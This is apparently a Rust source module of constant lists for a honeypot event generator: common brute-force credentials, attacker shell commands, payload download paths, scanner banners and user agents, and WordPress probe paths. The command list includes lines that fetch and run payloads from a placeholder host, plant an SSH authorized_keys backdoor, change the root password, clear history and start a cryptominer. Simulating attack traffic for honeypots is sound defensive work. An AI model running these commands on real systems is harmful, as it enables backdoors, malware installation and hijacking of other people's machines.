//! Built-in lists the event generator draws from: the credentials, commands, paths and clients
//! that show up again and again in real honeypot logs.

/// Common credentials (username, password) seen in SSH and Telnet brute force.
pub(super) const CREDENTIALS: &[(&str, &str)] = &[
    ("root", "123456"),
    ("root", "root"),
    ("root", "password"),
    ("root", "toor"),
    ("root", "admin"),
    ("root", "12345678"),
    ("root", "1qaz2wsx"),
    ("root", "qwerty"),
    ("root", "P@ssw0rd"),
    ("root", "changeme"),
    ("root", ""),
    ("admin", "admin"),
    ("admin", "1234"),
    ("admin", "password"),
    ("admin", "admin123"),
    ("ubuntu", "ubuntu"),
    ("pi", "raspberry"),
    ("test", "test"),
    ("test", "test123"),
    ("user", "user"),
    ("guest", "guest"),
    ("oracle", "oracle"),
    ("postgres", "postgres"),
    ("git", "git"),
    ("ftpuser", "ftpuser"),
    ("support", "support"),
    ("ubnt", "ubnt"),
    ("debian", "debian"),
    ("centos", "centos"),
    ("deploy", "deploy123"),
    ("hadoop", "hadoop"),
    ("minecraft", "minecraft"),
    ("es", "elastic"),
    ("user1", "qwerty123"),
    ("default", "default"),
    ("supervisor", "supervisor"),
    ("sa", "sa"),
    ("nagios", "nagios"),
    ("jenkins", "jenkins"),
    ("steam", "steam"),
];

/// Commands attackers type once in: reconnaissance, persistence, droppers, miners.
pub(super) const COMMANDS: &[&str] = &[
    "uname -a",
    "uname -s -v -n -r -m",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "which ls",
    "crontab -l",
    "w",
    "whoami",
    "nproc",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "cat /etc/passwd",
    "cat /etc/os-release",
    "ps aux | grep -v grep | grep -i miner",
    "top -bn1",
    "history -c",
    "rm -rf /tmp/* /var/tmp/*",
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /",
    "chattr -ia .ssh; lockr -ia .ssh",
    "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
    "wget http://{host}/bins/x86 -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x",
    "curl -s http://{host}/setup.sh | sh",
    "cd /tmp; wget http://{host}/ohshit.sh; sh ohshit.sh; rm -rf ohshit.sh",
    "echo -e \"\\x6F\\x6B\"",
    "/bin/busybox ECCHI",
    "enable",
    "system",
    "shell",
    "sh",
    "echo \"root:Xk9vT2pq\" | chpasswd | bash",
    "nohup ./xmrig -o pool.minexmr.com:4444 -u 4AxBCd &",
];

/// What `file_download` events fetch: (path on the attacker's host, file name).
pub(super) const DOWNLOADS: &[(&str, &str)] = &[
    ("/bins/x86", "x86"),
    ("/bins/arm7", "arm7"),
    ("/bins/mips", "mips"),
    ("/setup.sh", "setup.sh"),
    ("/ohshit.sh", "ohshit.sh"),
    ("/xmrig", "xmrig"),
    ("/kinsing", "kinsing"),
    ("/.x/bot", "bot"),
];

/// SSH client banners of scanners and bots.
pub(super) const SSH_CLIENTS: &[&str] = &[
    "SSH-2.0-libssh_0.9.6",
    "SSH-2.0-libssh2_1.10.0",
    "SSH-2.0-Go",
    "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5",
    "SSH-2.0-OpenSSH_7.4",
    "SSH-2.0-PuTTY_Release_0.78",
    "SSH-2.0-paramiko_2.11.0",
    "SSH-2.0-ZGrab ZGrab SSH Survey",
];

/// WordPress usernames tried against wp-login.php and xmlrpc.php.
pub(super) const WP_USERS: &[&str] = &[
    "admin",
    "administrator",
    "wpadmin",
    "wordpress",
    "editor",
    "webmaster",
    "test",
    "user",
    "demo",
    "root",
];

/// Passwords tried against WordPress.
pub(super) const WP_PASSWORDS: &[&str] = &[
    "123456",
    "password",
    "admin",
    "admin123",
    "12345678",
    "qwerty",
    "wordpress",
    "letmein",
    "welcome",
    "Passw0rd!",
    "iloveyou",
    "abc123",
    "111111",
    "admin@123",
];

/// Probes for vulnerable plugins and for files that give a WordPress site away.
pub(super) const WP_PROBES: &[&str] = &[
    "/wp-content/plugins/revslider/temp/update_extract/revslider/",
    "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
    "/wp-content/plugins/contact-form-7/readme.txt",
    "/wp-content/plugins/elementor/readme.txt",
    "/wp-content/plugins/woocommerce/readme.txt",
    "/wp-content/plugins/duplicator/installer.php",
    "/wp-content/plugins/wp-fastest-cache/readme.txt",
    "/wp-content/plugins/essential-addons-for-elementor-lite/readme.txt",
    "/wp-content/plugins/ultimate-member/readme.txt",
    "/wp-content/themes/twentytwenty/style.css",
    "/wp-includes/wlwmanifest.xml",
    "/wp-json/wp/v2/users",
    "/?author=1",
    "/wp-admin/setup-config.php",
    "/wp-config.php.bak",
    "/.env",
    "/readme.html",
    "/xmlrpc.php?rsd",
];

/// XML-RPC methods abused for brute force, amplification and discovery.
pub(super) const XMLRPC_METHODS: &[&str] = &[
    "wp.getUsersBlogs",
    "system.multicall",
    "pingback.ping",
    "system.listMethods",
];

/// User agents of WordPress scanners and brute forcers.
pub(super) const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "curl/7.88.1",
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "fasthttp",
];

/// First octets of public-looking source ranges (hosting providers and residential blocks).
pub(super) const PUBLIC_FIRST_OCTETS: &[u8] = &[
    5, 23, 31, 37, 45, 46, 51, 61, 62, 77, 78, 80, 85, 89, 91, 92, 103, 104, 106, 109, 112, 116,
    117, 118, 121, 122, 138, 139, 141, 142, 147, 152, 157, 159, 161, 164, 167, 170, 176, 178, 179,
    183, 185, 188, 190, 193, 194, 195, 201, 212, 213, 217, 218, 220, 221, 222,
];

/// The documentation networks (RFC 5737).
pub(super) const DOC_NETS: &[[u8; 3]] = &[[192, 0, 2], [198, 51, 100], [203, 0, 113]];
